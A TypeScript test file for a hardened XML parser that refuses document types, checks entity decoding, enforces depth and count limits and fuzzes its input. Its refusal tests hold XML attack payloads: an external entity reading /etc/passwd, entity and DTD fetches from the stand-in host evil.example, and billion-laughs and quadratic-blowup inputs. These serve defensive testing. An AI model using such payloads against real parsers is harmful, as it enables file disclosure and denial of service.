import fc from 'fast-check'
import { expect, test } from 'vitest'
import { childrenOf, MalformedXml, parseXml, textOf } from './parse-xml'

test('elements, attributes and text are read in their order', () => {
  const rss = parseXml(
    '<?xml version="1.0" encoding="UTF-8"?>\n<!-- jobs -->\n<rss version="2.0"><channel><item n="1"><title> A </title></item><item n="2"/></channel></rss>',
  )
  const items = childrenOf(childrenOf(rss, 'channel')[0]!, 'item')
  expect(rss.name).toBe('rss')
  expect(items.map(({ attributes }) => attributes.n)).toEqual(['1', '2'])
  expect(items.map((item) => textOf(item, 'title'))).toEqual(['A', null])
})

test.each([
  ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><a/>'],
  [
    'an external document type',
    '<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "https://evil.example/x.dtd">\n<a/>',
  ],
  ['a harmless document type', '<!-- x --><!DOCTYPE a><a/>'],
  ['a billion laughs', `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs()}]><a>&l9;</a>`],
  ['a quadratic blowup', `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]><a>${'&x;'.repeat(50_000)}</a>`],
])('%s is refused', (_name, xml) => {
  expect(() => parseXml(xml)).toThrow('A document type is not read.')
})

test.each([
  ['a document type after the root', '<a/><!DOCTYPE a>'],
  ['a document type inside', '<a><!DOCTYPE a [<!ENTITY x "y">]>&x;</a>'],
  ['a document type without an end', '<!DOCTYPE a [<!ENTITY x "y">'],
  ['an entity on its own', '<a><!ENTITY x "y">&x;</a>'],
  ['HTML', '<!doctype html><html><br></html>'],
  ['an unknown entity', '<a>&nbsp;</a>'],
  ['an entity named like a property', '<a>&constructor;</a>'],
  ['an entity named like a prototype', '<a b="&__proto__;"/>'],
  ['a character that XML forbids', '<a>&#0;</a>'],
  ['a surrogate', '<a>&#xD800;</a>'],
  ['an end without a start', '<a></b></a>'],
  ['a start without an end', '<a><b></a>'],
  ['two roots', '<a/><b/>'],
  ['an attribute twice', '<a b="1" b="2"/>'],
  ['JSON', '{"jobs":[]}'],
  ['nothing', ''],
])('%s is malformed', (_name, xml) => {
  expect(() => parseXml(xml)).toThrow(MalformedXml)
})

test('the line of a fault is named', () => {
  expect(() => parseXml('<a>\n<b/>\n&x;</a>')).toThrow(/^Line 3: undefined entity/)
})

test('references are decoded exactly once', () => {
  const read = parseXml(
    '<a b="&quot;&amp;lt;&#38;amp;">&amp;lt;b&amp;gt; &lt;&gt;&apos;&quot; &#x1F600;&#233; &amp;amp;</a>',
  )
  expect(read.text).toBe(`&lt;b&gt; <>'" 😀é &amp;`)
  expect(read.attributes.b).toBe('"&lt;&amp;')
})

test('CDATA is kept as it is', () => {
  expect(parseXml('<a><![CDATA[<p>&amp; ]]&gt; &#38;</p>]]></a>').text).toBe('<p>&amp; ]]&gt; &#38;</p>')
  expect(parseXml('<a>x <![CDATA[a]]]]><![CDATA[>b]]> y</a>').text).toBe('x a]]>b y')
  expect(parseXml('<a><![CDATA[<!DOCTYPE html><!ENTITY x "y">]]></a>').text).toBe(
    '<!DOCTYPE html><!ENTITY x "y">',
  )
})

test('elements may be 50 deep', () => {
  expect(parseXml(nested(50)).children).toHaveLength(1)
  expect(() => parseXml(nested(51))).toThrow('nested deeper than 50')
  expect(() => parseXml('<a>'.repeat(1_000_000))).toThrow('nested deeper than 50')
})

test('more than a million elements and attributes are refused', () => {
  expect(() => parseXml(`<a>${'<b/>'.repeat(1_000_000)}</a>`)).toThrow('more than 1000000')
  expect(() => parseXml(`<a>${'<b c="" d=""/>'.repeat(340_000)}</a>`)).toThrow('more than 1000000')
})

test('names of properties are names like others', () => {
  const read = parseXml('<__proto__ constructor="1" __proto__="2"><toString>x</toString></__proto__>')
  expect(Object.entries(read.attributes)).toEqual([
    ['constructor', '1'],
    ['__proto__', '2'],
  ])
  expect(textOf(read, 'toString')).toBe('x')
  expect(textOf(read, 'constructor')).toBeNull()
})

test('any text is read or refused with a line', () => {
  const piece = fc.constantFrom(
    '<a>',
    '</a>',
    '<![CDATA[',
    ']]>',
    '<!--',
    '-->',
    '&',
    ';',
    '<!DOCTYPE',
    '"',
    'x',
    '\n',
  )
  fc.assert(
    fc.property(
      fc.array(piece).map((pieces) => `<a>${pieces.join('')}</a>`),
      (xml) => {
        try {
          parseXml(xml)
        } catch (error) {
          expect(error).toBeInstanceOf(MalformedXml)
        }
      },
    ),
  )
})

function nested(depth: number): string {
  return '<a>'.repeat(depth) + '</a>'.repeat(depth)
}

function laughs(): string {
  const levels = Array.from({ length: 9 }, (_, level) => level + 1)
  return levels.map((level) => `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`).join('')
}
